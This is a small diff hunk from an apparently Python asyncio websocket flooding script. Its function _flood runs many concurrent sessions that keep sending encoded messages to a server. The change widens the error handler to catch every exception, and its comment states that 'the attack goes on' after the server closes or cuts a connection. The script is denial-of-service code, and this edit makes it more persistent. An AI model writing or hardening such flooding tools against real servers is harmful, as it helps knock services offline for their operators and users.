@@ -134,7 +134,7 @@ async def _flood(uri: str, headers: dict[str, str], sessions: int, in_flight: in
                         await ws.recv()
                         ids += 1
                         await ws.send(encoder.encode_oob(message(ids)))
-            except (OSError, websockets.ConnectionClosed):
+            except Exception:  # whatever ended this connection (the server closed or cut it): the attack goes on
                 await asyncio.sleep(0.01)
 
     await asyncio.gather(*(session() for _ in range(sessions)))
